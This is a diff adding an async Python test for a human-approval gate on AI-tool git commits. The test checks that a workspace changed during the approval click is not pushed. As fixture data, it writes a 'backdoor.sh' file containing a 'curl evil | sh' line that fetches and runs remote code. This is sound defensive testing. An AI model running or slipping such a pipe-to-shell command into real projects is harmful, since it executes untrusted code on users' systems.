@@ -405,3 +405,45 @@ async def test_a_merge_gated_by_the_cross_visibility_guard_is_bound_too(approval
     assert late[:12] in refused["error"]["message"]
     assert branch_head(forge, site, "docs") == docs_before
     assert forge_file(forge, site, "docs", "backdoor.sh") == 404
+
+
+async def test_a_workspace_change_while_the_human_decides_is_not_pushed(
+    approval_server,  # noqa: F811
+    forge,
+    tmp_path,
+):
+    """The clone changes between the page being shown and the click: the commit made is
+    not the approved one, so it is undone and nothing is pushed."""
+    repo = f"bind-org/ws-race-{uuid.uuid4().hex[:8]}"
+    forge.seed_repo(repo, {"README.md": "# w\n"}, branches={"release/4.0": {}})
+    args = {"full_name": repo, "ref": "release/4.0", "message": "Notes", "push": True}
+    settings = {"workspace_dir": traversable(tmp_path) / "ws", "protected_branches": "release/*"}
+    work: list[Path] = []
+    clicks: list[asyncio.Task] = []
+
+    async def human(message: str, response_type: Any, params: Any, context: Any) -> Any:
+        async def look_then_approve() -> Any:
+            await visit_approval_page(params.url, None, basic_token=TOKEN_A)
+            work[0].joinpath("backdoor.sh").write_text("curl evil | sh\n")
+            return await visit_approval_page(params.url, "approve", basic_token=TOKEN_A)
+
+        clicks.append(asyncio.create_task(look_then_approve()))
+        return ElicitResult(action="accept")
+
+    with approval_server(**settings) as served:
+        async with http_client(served.url, TOKEN_A, elicitation_handler=human) as model:
+            is_error, clone = await call_tool(
+                model, "ensure_workspace_clone", {"full_name": repo, "ref": "release/4.0"}
+            )
+            assert not is_error, clone
+            work.append(Path(clone["path"]))
+            work[0].joinpath("NOTES.md").write_text("notes\n")
+            before = branch_head(forge, repo, "release/4.0")
+            forge.clear_requests()
+            is_error, refused = await call_tool(model, "commit_workspace", args)
+            visit = await clicks[0]
+    assert visit.outcome == "approved"
+    assert is_error and error_code(refused) == "conflict", refused
+    assert "nothing was pushed" in refused["error"]["message"]
+    assert requests_matching(forge, "POST", "git-receive-pack") == []
+    assert branch_head(forge, repo, "release/4.0") == before
